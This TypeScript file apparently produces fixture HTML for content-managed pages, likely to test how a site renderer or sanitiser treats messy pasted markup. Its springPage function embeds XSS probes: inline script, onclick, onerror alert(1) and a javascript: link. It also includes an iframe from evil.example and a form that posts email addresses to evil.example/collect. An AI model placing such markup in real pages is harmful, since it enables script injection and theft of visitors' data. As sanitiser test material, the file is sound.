/** Content-managed pages whose paths look like those of other kinds of pages. */
import type { Edition } from '../edition.ts';
import { anchor, figure, film, heading, list, paragraphs, quote } from './htmlBlocks.ts';

/** A campaign at the path of a product line, with markup as pasted from word processors and old pages. */
export function springPage(edition: Edition): string {
  const { copy, words, at } = edition;
  return [
    `<h1 style="color:red;font-size:72px">${copy.page_spring_title}</h1>`,
    `<p class="MsoNormal" style="margin-left:36pt" onclick="alert('pasted')">${copy.page_spring_text}</p>`,
    '<p>&nbsp;</p><p>&nbsp;</p>',
    '<script>document.title = "taken over";</script>',
    list('ul', [copy.page_spring_1, copy.page_spring_2, copy.page_spring_3]),
    figure(
      edition.img('event-colour-week'),
      edition.altOf('event-colour-week', copy.page_spring_title),
      copy.event_colour_week_title,
    ),
    '<style>body { display: none }</style>',
    `<font color="#ff0000"><b>${copy.slim_bottom_title}</b></font><br><br>`,
    `<p>${anchor({ name: words.contact_us, url: at('support/contact') })}</p>`,
    `<p><a href="javascript:alert('clicked')">${words.register_product}</a></p>`,
    '<img src="x" onerror="alert(1)" alt="">',
    '<iframe src="https://evil.example/frame" title="Not ours"></iframe>',
    `<form action="https://evil.example/collect"><input name="email"><button>${words.contact_us}</button></form>`,
  ].join('');
}

/** A page about the stories, at the path of a story category. */
export function behindPage(edition: Edition): string {
  const { copy } = edition;
  return [
    paragraphs(copy.page_behind_text, copy.landing_body),
    heading(2, copy.section_gallery),
    figure(
      edition.img('event-exhibition'),
      edition.altOf('event-exhibition', copy.event_exhibition_title),
      copy.event_exhibition_text,
    ),
    film(copy.video_title),
  ].join('');
}

/** A page about the making of one work, at the path of a profile. */
export function makingPage(edition: Edition): string {
  const { copy } = edition;
  return [
    paragraphs(copy.page_making_text),
    figure(
      edition.img('cover-ember-silk'),
      edition.altOf('cover-ember-silk', copy.work_ember_silk),
      copy.work_ember_silk,
    ),
    quote(copy.pro_colourist_quote, 'Imani Okoradu'),
    paragraphs(copy.create_filmmaker_text),
  ].join('');
}

/** A guide at a path with several segments. */
export function guidePage({ copy, at, words }: Edition): string {
  return [
    paragraphs(copy.page_guide_text),
    list('ol', [copy.page_guide_step_1, copy.page_guide_step_2, copy.page_guide_step_3, copy.page_guide_step_4]),
    heading(2, copy.module_report_title),
    paragraphs(copy.module_report_text),
    `<p>${anchor({ name: words.monitors, url: at('monitors-home') })}</p>`,
  ].join('');
}
